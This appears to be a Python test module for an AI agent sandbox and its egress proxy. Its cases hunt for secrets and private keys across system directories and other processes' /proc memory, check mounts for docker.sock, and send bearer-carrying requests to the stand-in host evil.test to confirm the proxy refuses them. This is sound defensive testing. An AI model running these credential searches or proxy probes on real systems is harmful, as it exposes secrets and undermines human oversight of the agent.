"""The real bytes, hunted for where an agent may look: files, processes, answers, the authority's key."""

from __future__ import annotations

import contextlib
import os
import ssl
from pathlib import Path

from .cases import each
from .tools import BUNDLE, OK4, PROXY, SECRETS, attempt, bearer, leaked, over, proxy_send, request, tcp, tunnel

LARGEST = 4 << 20


def _holds(top: str, *needles: bytes) -> object:
    """A readable file below `top` with one of these in it; /tmp is left out, where these attempts lie themselves."""
    for directory, below, names in os.walk(top):
        below[:] = [name for name in below if not Path(directory, name).is_symlink()]
        for name in names:
            path = Path(directory, name)
            with contextlib.suppress(OSError):
                if path.is_file() and path.stat().st_size <= LARGEST and any(n in path.read_bytes() for n in needles):
                    return str(path)
    return False


@each({name.strip("/"): name for name in ("/etc", "/run", "/var", "/opt", "/home", "/root", "/srv", "/dev/shm")})
def secret_in_files(top: str) -> object:
    return _holds(top, *(secret.encode() for secret in SECRETS))


@each({"authority": "/etc/agent-container", "run": "/run", "state": "/var/lib"})
def private_key_in_files(top: str) -> object:
    return _holds(top, b"PRIVATE " + b"KEY")


@each({name: name for name in ("environ", "cmdline", "mem", "root/etc/hostname", "auxv")})
def secret_in_processes(part: str) -> object:
    """Of other processes; one's own memory holds these very words."""
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) not in (os.getpid(), 1):
            with contextlib.suppress(OSError), Path(entry, part).open("rb") as file:
                data = file.read(1 << 20)
                if any(secret.encode() in data for secret in SECRETS):
                    return f"{entry.name}/{part}"
    return False


@attempt
def secret_in_the_mounts() -> object:
    """Nothing of the host's directories, and no volume but the authority's certificates."""
    text = Path("/proc/self/mountinfo").read_text()
    words = ("/var/lib/egress ", "/etc/agent-egress", "/receipts", "docker.sock")
    return [word for word in words if word in text]


@each(
    {
        "refused_host": b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n" + bearer().encode(),
        "refused_tunnel": b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n" + bearer().encode(),
        "broken": b"GET / \0 HTTP/1.1\r\n" + bearer().encode(),
        "too_long": b"GET http://api.test/" + b"a" * 70000 + b" HTTP/1.1\r\n" + bearer().encode(),
        "trace": b"TRACE http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nMax-Forwards: 0\r\n" + bearer().encode(),
    }
)
def secret_in_an_error(text: bytes) -> object:
    """squid's own words about a request must not show what stands for its credential."""
    return leaked(proxy_send(text + b"Connection: close\r\n\r\n"))


@each({"path": "/v1/who", "method": "DELETE", "host": "evil.test"})
def secret_in_a_refusal(what: str) -> object:
    path = what if what.startswith("/") else "/v1/messages"
    host = what if "." in what else "api.test"
    method = what if what.isupper() else "GET"
    with tunnel("api.test") as wrapped:
        return leaked(over(wrapped, request(path, host, method=method, headers=bearer())))


@attempt
def authority_signs_for_a_refused_host() -> object:
    """The session's authority vouches for no host that is not terminated."""
    with tcp(OK4, 443, timeout_s=5) as sock:
        context = ssl.create_default_context(cafile=BUNDLE)
        with context.wrap_socket(sock, server_hostname="evil.test") as wrapped:
            return str(wrapped.getpeercert())


@attempt
def authority_signs_an_authority() -> object:
    """What is presented for a terminated host signs nothing itself."""
    with tunnel("api.test") as wrapped:
        der = wrapped.getpeercert(binary_form=True) or b""
    return b"\x06\x03\x55\x1d\x13\x01\x01\xff\x04\x05\x30\x03\x01\x01\xff" in der  # basicConstraints, cA TRUE


@each({"tls10": ssl.TLSVersion.TLSv1, "tls11": ssl.TLSVersion.TLSv1_1})
def old_tls_inside(version: ssl.TLSVersion) -> object:
    """A terminated host is not spoken to over a broken protocol."""
    with tcp(*PROXY, timeout_s=5) as sock:
        sock.sendall(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
        if b" 200 " not in sock.recv(4096):
            return False
        context = ssl._create_unverified_context()
        context.minimum_version = context.maximum_version = version
        context.set_ciphers("ALL:@SECLEVEL=0")
        with context.wrap_socket(sock, server_hostname="api.test") as wrapped:
            return leaked(over(wrapped, request("/v1/messages", headers=bearer())))
